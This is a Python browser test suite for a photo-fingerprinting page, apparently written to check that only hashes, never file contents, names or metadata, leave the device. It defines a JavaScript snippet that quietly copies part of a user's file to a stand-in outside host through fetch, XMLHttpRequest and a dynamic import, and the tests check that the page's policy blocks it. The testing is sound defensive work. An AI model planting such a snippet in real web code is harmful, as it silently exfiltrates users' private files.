"""What is sent from the device page: fingerprints on request, and nothing else (T-01, T-02)."""

from __future__ import annotations

import io
import re
from collections.abc import Iterable
from urllib.parse import unquote_to_bytes

import pytest
from PIL import Image
from playwright.sync_api import BrowserContext, FilePayload, Page, expect

from tests.browser.device import COFFEE, ROCKET, DevicePage, file, picture
from tests.browser.site import Request, Site

pytestmark = pytest.mark.browser

WINDOW = 24
MARKER = b"PLANTED-MARKER-7f3a-camera-and-place-of-the-picture"
NAME = "holiday-with-someone.jpg"
FINGERPRINT = re.compile(r"[0-9a-f]{64}:\d{1,3}:photo")

# Tries every road out before the real work, and gives up on none silently: the file is
# passed on only after all have been answered.
LEAK = """
    addEventListener("message", async (event) => {
        if (!event.isTrusted) return;
        event.stopImmediatePropagation();
        const body = await event.data.slice(0, 400).arrayBuffer();
        const tries = ["", "%(stranger)s"].flatMap((host) => [
            fetch(host + "/leak", { method: "POST", mode: "no-cors", body }),
            new Promise((resolve) => {
                const request = new XMLHttpRequest();
                request.onloadend = resolve;
                request.open("POST", host + "/leak");
                request.send(body);
            }),
        ]);
        tries.push(import("%(stranger)s/leak.js"));
        await Promise.allSettled(tries);
        dispatchEvent(new MessageEvent("message", { data: event.data }));
    });
"""


@pytest.fixture
def hub(page: Page, site: Site) -> DevicePage:
    return DevicePage(page, site)


def marked() -> FilePayload:
    """A photo with camera data and a comment, under a telling name."""
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()
    buffer = io.BytesIO()
    with Image.open(ROCKET) as rocket:
        rocket.save(buffer, "jpeg", exif=exif, comment=MARKER)
    assert buffer.getvalue().count(MARKER) == 2
    return file(buffer.getvalue(), NAME)


def leaks(requests: Iterable[Request], files: Iterable[FilePayload]) -> list[str]:
    """Each request that carries more than it may, with the reason."""
    data = b"".join(chosen["buffer"] for chosen in files)
    windows = {data[i : i + WINDOW] for i in range(len(data) - WINDOW + 1)}
    found = []
    for request in requests:
        raw = b"\n".join(
            (request.path.encode(), request.headers.encode(), request.body)
        )
        for text in (raw, unquote_to_bytes(raw)):
            if NAME.encode() in text or MARKER in text:
                found.append(f"{request.method} {request.path}: a planted word")
            if any(text[i : i + WINDOW] in windows for i in range(len(text))):
                found.append(f"{request.method} {request.path}: a piece of a file")
    return found


class TestTheNetwork:
    def test_hears_fingerprints_only(self, hub: DevicePage, site: Site) -> None:
        asked: list[str] = []
        hub.page.context.on("request", lambda request: asked.append(request.url))
        files = [marked(), picture(COFFEE)]

        hub.ready().choose_and_wait(*files)
        assert not site.sent
        hub.send()

        (sent,) = site.sent
        assert sent.path == "/send"
        assert len(sent.body) < 2048
        fields = sent.fields
        assert [name for name, _ in fields] == ["csrfmiddlewaretoken", "hash", "hash"]
        assert all(FINGERPRINT.fullmatch(value) for _, value in fields[1:])
        assert leaks(site.requests, files) == []
        assert not any("?" in request.path for request in site.requests)
        assert all(url.startswith(f"{site.address}/") for url in asked)

    def test_stays_silent_even_if_the_worker_wants_to_talk(
        self, hub: DevicePage, site: Site, stranger: Site
    ) -> None:
        site.worker_prefix = LEAK % {"stranger": stranger.address}

        said = hub.ready().choose_and_wait(marked())

        assert said == ["Image 1: fingerprint ready"]
        assert not site.sent
        assert not stranger.requests

    def test_would_hear_a_worker_without_a_policy(
        self, hub: DevicePage, site: Site, stranger: Site
    ) -> None:
        """The page's own policy does not hold the worker: this test sees what it would miss."""
        site.worker_prefix = LEAK % {"stranger": stranger.address}
        site.worker_policy = None
        chosen = marked()

        hub.ready().choose_and_wait(chosen)

        assert [request.path for request in site.sent] == ["/leak", "/leak"]
        assert len(stranger.requests) > 0
        assert leaks(site.sent, [chosen])
        assert leaks(stranger.requests, [chosen])

    def test_is_closed_to_the_page_too(self, hub: DevicePage, site: Site) -> None:
        answer = hub.ready().page.evaluate(
            """() => {
                navigator.sendBeacon("/leak", "text");
                return fetch("/leak", { method: "POST" }).then(() => "sent", () => "stopped");
            }"""
        )

        assert answer == "stopped"
        hub.choose_and_wait(picture(COFFEE))
        hub.send()
        assert [request.path for request in site.sent] == ["/send"]

    def test_is_not_needed_once_the_page_is_ready(
        self, hub: DevicePage, site: Site, context: BrowserContext
    ) -> None:
        hub.ready()
        context.set_offline(True)

        hub.choose_and_wait(picture(ROCKET))
        expect(hub.title).to_have_text("1 fingerprint is ready")
        hub.page.click("#continue")
        expect(hub.trouble).to_contain_text(
            "Nothing was sent. The connection was lost."
        )
        context.set_offline(False)
        hub.send()

        assert [name for name, _ in site.sent[0].fields] == [
            "csrfmiddlewaretoken",
            "hash",
        ]


class TestThePage:
    def test_starts_no_other_worker(self, hub: DevicePage) -> None:
        errors = hub.ready().page.evaluate(
            """() => [
                () => new Worker("/static/victims/pdq.js", { type: "module" }),
                () => trustedTypes.createPolicy("hasher", {}),
                () => trustedTypes.createPolicy("another", {}),
            ].map((attempt) => { try { attempt(); return "done"; } catch (error) { return error.name; } })"""
        )

        assert errors == ["TypeError"] * 3

    def test_shows_no_name_and_no_picture(self, hub: DevicePage) -> None:
        hub.ready().choose_and_wait(marked())

        assert NAME not in hub.page.content()
        assert hub.page.evaluate("document.getElementById('files').value") == ""
        expect(hub.page.locator("img, picture, video, canvas, object")).to_have_count(0)

    def test_keeps_nothing(self, hub: DevicePage, context: BrowserContext) -> None:
        hub.ready().choose_and_wait(marked())

        kept = hub.page.evaluate(
            """async () => [
                localStorage.length, sessionStorage.length, (await indexedDB.databases()).length,
                (await navigator.serviceWorker.getRegistrations()).length,
            ]"""
        )
        assert kept == [0, 0, 0, 0]
        assert context.cookies() == []

    def test_has_a_file_input_without_name_outside_every_form(
        self, hub: DevicePage
    ) -> None:
        inputs = hub.ready().page.locator("input[type=file]")

        expect(inputs).to_have_count(1)
        assert inputs.evaluate("(input) => [input.name, input.form]") == ["", None]
